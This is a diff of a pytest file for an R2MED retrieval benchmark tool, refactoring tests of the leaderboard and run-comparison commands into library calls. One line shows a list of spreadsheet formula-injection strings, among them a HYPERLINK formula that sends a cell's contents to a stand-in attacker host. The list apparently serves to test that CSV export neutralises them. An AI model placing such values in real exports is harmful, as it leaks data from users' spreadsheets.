@@ -1,5 +1,7 @@
-"""`r2med leaderboard`: the published table recomputed exactly, runs merged at their rank, bad
-files skipped with one line."""
+"""The leaderboard (``r2med_tasks.rank_systems``, ``r2med leaderboard``) and ``compare_runs``
+(``r2med compare``): the published table recomputed exactly, runs merged at their rank, bad files
+skipped with one line. Their logic is tested on the library; the command line's formats,
+refusals and output files on the command."""
 
 import csv
 import json
@@ -7,7 +9,9 @@ from pathlib import Path
 
 import pytest
 
+import r2med_tasks as r2med
 from conftest import board_rows
+from r2med_tasks.errors import UserError
 from r2med_tasks.leaderboard import PUBLISHED_CSV, markdown_cell, merge, published_rows, ranked, select
 from r2med_tasks.tasks import R2MED_TASKS
 
@@ -19,10 +23,11 @@ def published():
         return list(csv.DictReader(f))
 
 
-def board(run_cli, *args):
-    code, out, err = run_cli("leaderboard", "--format", "json", *args)
-    assert code == 0, err
-    return json.loads(out), err
+def board(*folders, commands: bool = False, **options) -> tuple[list[dict], list[str]]:
+    """The leaderboard of ``folders`` (none given: ./results when it exists) as ``--format json``
+    writes its rows, and its warnings."""
+    shown = r2med.rank_systems(folders or None, statistics=not commands, **options)
+    return shown.records(commands=commands), shown.warnings
 
 
 def test_published_ranks_and_averages_reproduced():
@@ -37,10 +42,10 @@ def test_published_ranks_and_averages_reproduced():
 PUBLISHED_WITH_COMMANDS = [r for r in published() if r["command"]]
 
 
-def test_every_published_row_has_a_command(run_cli, tmp_path, monkeypatch):
+def test_every_published_row_has_a_command(plugins, tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)
     assert [r["name"] for r in published() if not r["command"]] == []  # BGE-Reasoner-Embed-0928: reason-embed
-    rows, _ = board(run_cli, "--commands")
+    rows, _ = board(commands=True)
     assert [(r["system"], r["command"] or "") for r in rows] == [(r["name"], r["command"]) for r in published()]
     assert set(rows[0]) == {"rank", "system", "average", "command", "live_command", "local_data"}
     agents = [r for r in rows if "-o source=" in (r["command"] or "") and "search-" in r["command"]]
@@ -83,10 +88,11 @@ def test_a_published_command_builds_the_row_it_names(record, plugins, tmp_path):
     assert plan["pipeline"] == record["name"] and len(plan["tasks"]) == 8
 
 
-def test_a_folder_without_r2med_results_is_named(run_cli, evaluate, tmp_path):
+def test_a_folder_without_r2med_results_is_named(evaluate, tmp_path):
     evaluate("bm25", output="res")
-    rows, err = board(run_cli, "--no-published", str(tmp_path / "res"))
-    assert rows == [] and "res: no results of R2MED tasks (runs on other tasks, such as sample, are not ranked)" in err
+    rows, warnings = board(tmp_path / "res", published="none")
+    assert rows == [] and warnings == [
+        f"{tmp_path / 'res'}: no results of R2MED tasks (runs on other tasks, such as sample, are not ranked)"]
 
 
 def write_result(folder: Path, task: str, ndcg: float, name: str) -> None:
@@ -99,19 +105,19 @@ def write_result(folder: Path, task: str, ndcg: float, name: str) -> None:
     (folder / "model_meta.json").write_text(json.dumps({"name": name, "revision": folder.name}))
 
 
-def test_a_run_lands_at_its_rank_and_incomplete_ones_after(run_cli, tmp_path):
+def test_a_run_lands_at_its_rank_and_incomplete_ones_after(plugins, tmp_path):
     results = tmp_path / "results"
     for task in R2MED_TASKS:  # 0.3315 on every dataset -> 33.15 average: between 33.29 and 33.12
         write_result(results / "acme__ranker" / "v1", task.name, 0.3315, "acme/ranker")
     write_result(results / "acme__partial" / "v1", R2MED_TASKS[0].name, 0.99, "acme/partial")
     (results / "acme__ranker" / "v1" / "notes.json").write_text("{not json")  # a foreign file
-    rows, err = board(run_cli, str(results))
+    rows, warnings = board(results)
     names = [r["system"] for r in rows]
     i = names.index("acme/ranker")
     assert rows[i]["average"] == 33.15
     assert rows[i - 1]["average"] >= 33.15 >= rows[i + 1]["average"]
     assert names[-1] == "acme/partial" and "(incomplete)" in rows[-1]["source"]
-    assert "notes.json: not an mteb TaskResult" in err and len(err.strip().splitlines()) == 1
+    assert len(warnings) == 1 and "notes.json: not an mteb TaskResult" in warnings[0]
 
 
 def test_results_written_by_r2med_run_merge(evaluate, tmp_path, data_dir):
@@ -123,13 +129,14 @@ def test_results_written_by_r2med_run_merge(evaluate, tmp_path, data_dir):
 
 
 def test_filters_and_formats(run_cli, tmp_path, monkeypatch):
+    """The filters on the rows; the markdown and csv formats and --output on the command."""
     board_ = ranked(merge(published_rows()))
     rows, _ = select(board_, retriever="bm25", top=3)
     assert [r.system for r in rows] == ["o3-mini + BM25", "GPT4o + BM25", "Search-O1 (QwQ-32b) + BM25"]
     rows, tasks = select(board_, tasks=[PMC, IIYI], top=1)
     assert tasks == [PMC, IIYI] and len(rows) == 1
     monkeypatch.chdir(tmp_path)
-    rows, _ = board(run_cli, "--tasks", "clinical-case", "--top", "1")  # the columns of the chosen datasets
+    rows, _ = board(tasks="clinical-case", top=1)  # the columns of the chosen datasets
     assert set(rows[0]) >= {"PMC-Clinical", "IIYi-Clinical"} and "Biology" not in rows[0]
     code, out, _ = run_cli("leaderboard", "--format", "markdown", "--top", "2")
     assert out.splitlines()[2].startswith("| 1 | BGE-Reasoner-Embed-0928 |")
@@ -148,16 +155,16 @@ def test_group_ranks_by_its_own_average():
 
 def test_compare_two_runs(run_cli, evaluate, tmp_path, data_dir):
     """Differences and p-values from the per-query files, checked against the significance module
-    fed the same numbers read independently."""
+    fed the same numbers read independently; ``r2med compare --json`` prints the library's result."""
     from r2med_tasks.significance import compare
 
     folders = []
     for options in ({}, {"k1": 2.0, "b": 0.9}):
         (folder,) = evaluate("bm25", **options, tasks=None, data_dir=data_dir, output="res").results_dirs
         folders.append(Path(folder))  # --data-dir: one (local-data) folder
+    result = r2med.compare_runs(*folders, trials=2000).to_json()
     code, out, err = run_cli("compare", *map(str, folders), "--json", "--trials", "2000")
-    assert code == 0, err
-    result = json.loads(out)
+    assert code == 0 and json.loads(out) == result, err  # the command and the library cannot drift apart
 
     def read(folder):
         return {p.name.split(".")[0]: {line.split("\t")[0]: float(line.split("\t")[1])
@@ -168,8 +175,8 @@ def test_compare_two_runs(run_cli, evaluate, tmp_path, data_dir):
     assert result == {**compare(a, b, trials=2000), "data_differences": {}}  # both on the same data
     for task, t in result["tasks"].items():
         assert t["difference"] == sum(b[task].values()) / len(b[task]) - sum(a[task].values()) / len(a[task])
-    code, _, err = run_cli("compare", str(tmp_path), str(folders[1]))
-    assert code == 2 and "no <Task>.per_query.tsv files" in err
+    with pytest.raises(UserError, match="no <Task>.per_query.tsv files"):
+        r2med.compare_runs(tmp_path, folders[1])
 
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1",
@@ -248,11 +255,11 @@ def test_names_from_folders_reach_the_terminal_printable(run_cli, tmp_path):
     ("Biology", ["Biology"]), ("r2med", [t.short_name for t in R2MED_TASKS]),
     ("clinical-case,MedQA-Diag", ["MedQA-Diag", "PMC-Clinical", "IIYi-Clinical"]),
     ("R2MEDIIYiClinicalRetrieval", ["IIYi-Clinical"])])
-def test_tasks_takes_datasets_groups_and_r2med(run_cli, tmp_path, monkeypatch, tasks, expected):
+def test_tasks_takes_datasets_groups_and_r2med(plugins, tmp_path, monkeypatch, tasks, expected):
     from r2med_tasks.evaluation import leaderboard_average
 
     monkeypatch.chdir(tmp_path)
-    rows, _ = board(run_cli, "--tasks", tasks)
+    rows, _ = board(tasks=tasks)
     assert [k for k in rows[0] if k in {t.short_name for t in R2MED_TASKS}] == expected
     def average(r):  # all eight: the published average (BGE-Reasoner has no per-dataset values)
         return float(r["avg"]) if len(expected) == 8 else leaderboard_average([float(r[d]) for d in expected])
@@ -262,10 +269,24 @@ def test_tasks_takes_datasets_groups_and_r2med(run_cli, tmp_path, monkeypatch, t
 
 
 def test_tasks_other_than_r2med_are_refused_in_one_line(run_cli, tmp_path):
+    with pytest.raises(UserError, match="--tasks sample: not an R2MED dataset"):
+        r2med.rank_systems(tasks=["sample"])
     code, out, err = run_cli("leaderboard", "--tasks", "sample")
     assert code == 2 and out == "" and len(err.strip().splitlines()) == 1 and "not an R2MED dataset" in err
     code, _, err = run_cli("leaderboard", "--tasks", "Biolgy")
     assert code == 2 and "did you mean 'Biology'" in err
+
+
+@pytest.mark.parametrize("options, message", [
+    ({"folders": "nowhere"}, "nowhere: not a folder of results"),
+    ({"mteb_results": "nowhere"}, "nowhere: not a folder of results"),
+    ({"published": "some"}, "rank_systems(published='some'): one of leaderboard, all, none"),
+    ({"top": 0}, "rank_systems(top=0): give at least 1")])
+def test_the_library_refuses_bad_input_in_one_line(plugins, tmp_path, monkeypatch, options, message):
+    monkeypatch.chdir(tmp_path)
+    with pytest.raises(UserError) as refused:
+        r2med.rank_systems(**options)
+    assert str(refused.value) == message
 
 
 def per_query(folder: Path, scores: dict[str, dict[str, float]]) -> Path:
@@ -276,31 +297,35 @@ def per_query(folder: Path, scores: dict[str, dict[str, float]]) -> Path:
     return folder
 
 
-def test_compare_averages_r2med_tasks_only(run_cli, tmp_path):
+def test_compare_averages_r2med_tasks_only(run_cli, plugins, tmp_path):
     """The sample task is compared, shown apart, and left out of the average (as the leaderboard)."""
     bio, pmc, sample = "R2MEDBiologyRetrieval", "R2MEDPMCClinicalRetrieval", "R2MEDSampleRetrieval"
     a = per_query(tmp_path / "a", {bio: {"q1": 0.2, "q2": 0.4}, pmc: {"q1": 0.5}, sample: {"q1": 0.0}})
     b = per_query(tmp_path / "b", {bio: {"q1": 0.3, "q2": 0.5}, pmc: {"q1": 0.7}, sample: {"q1": 1.0}})
-    unchecked = "--allow-different-data"  # bare per-query files store no data identity to check
-    code, out, err = run_cli("compare", str(a), str(b), "--json", "--trials", "10", unchecked)
-    assert code == 0, err
-    result = json.loads(out)
-    assert result["average"]["n_tasks"] == 2 and result["tasks_outside_average"] == [sample]
-    assert result["average"]["difference"] == pytest.approx(((0.4 - 0.3) + (0.7 - 0.5)) / 2)
-    assert result["tasks"][sample]["difference"] == 1.0
-    code, out, _ = run_cli("compare", str(a), str(b), "--trials", "10", unchecked)
+    unchecked = {"allow_different_data": True}  # bare per-query files store no data identity to check
+    result = r2med.compare_runs(a, b, trials=10, **unchecked)
+    assert result.average["n_tasks"] == 2 and result.tasks_outside_average == [sample]
+    assert result.average["difference"] == pytest.approx(((0.4 - 0.3) + (0.7 - 0.5)) / 2)
+    assert result.tasks[sample]["difference"] == 1.0
+    code, out, _ = run_cli("compare", str(a), str(b), "--trials", "10", "--allow-different-data")
     assert "Average of 2 R2MED tasks" in out and "+15.00" in out and "not averaged" in out
-    code, out, _ = run_cli("compare", str(a), str(b), "--json", "--trials", "10", "--tasks", "clinical-case",
-                           unchecked)
-    assert list(json.loads(out)["tasks"]) == [pmc]
-    code, out, _ = run_cli("compare", str(a), str(b), "--json", "--trials", "10", "--tasks", "sample", unchecked)
-    assert json.loads(out)["average"] is None
+    assert list(r2med.compare_runs(a, b, trials=10, tasks="clinical-case", **unchecked).tasks) == [pmc]
+    assert r2med.compare_runs(a, b, trials=10, tasks=["sample"], **unchecked).average is None
 
 
 @pytest.mark.parametrize("value", ["-0.5", "1.5", "nan", "inf"])
-def test_compare_refuses_a_per_query_value_that_is_no_score(run_cli, tmp_path, value):
+def test_compare_refuses_a_per_query_value_that_is_no_score(plugins, tmp_path, value):
     a = per_query(tmp_path / "a", {"R2MEDBiologyRetrieval": {"q1": 0.2}})
     b = per_query(tmp_path / "b", {"R2MEDBiologyRetrieval": {"q1": float(value)}})
+    with pytest.raises(UserError) as refused:
+        r2med.compare_runs(a, b)
+    assert str(refused.value).startswith(f"{b / 'R2MEDBiologyRetrieval.per_query.tsv'}: query q1: nDCG@10 ")
+    assert "\n" not in str(refused.value)
+
+
+def test_compare_refuses_a_value_that_is_no_score_in_one_line(run_cli, tmp_path):
+    a = per_query(tmp_path / "a", {"R2MEDBiologyRetrieval": {"q1": 0.2}})
+    b = per_query(tmp_path / "b", {"R2MEDBiologyRetrieval": {"q1": 1.5}})
     code, out, err = run_cli("compare", str(a), str(b))
     assert code == 2 and out == "" and len(err.strip().splitlines()) == 1
     assert f"{b / 'R2MEDBiologyRetrieval.per_query.tsv'}: query q1: nDCG@10" in err and "Traceback" not in err
@@ -344,9 +369,9 @@ def test_shipped_published_results_are_generated_and_load_in_mteb(tmp_path):
     assert values == {t.name: float(record[t.short_name]) for t in R2MED_TASKS}
 
 
-def test_shipped_rows_are_not_counted_twice(run_cli, tmp_path, monkeypatch):
+def test_shipped_rows_are_not_counted_twice(plugins, tmp_path, monkeypatch):
     monkeypatch.chdir(Path(__file__).parent.parent)  # ./results holds the shipped published results
-    rows, _ = board(run_cli)
+    rows, _ = board()
     assert len(rows) == 69
 
 
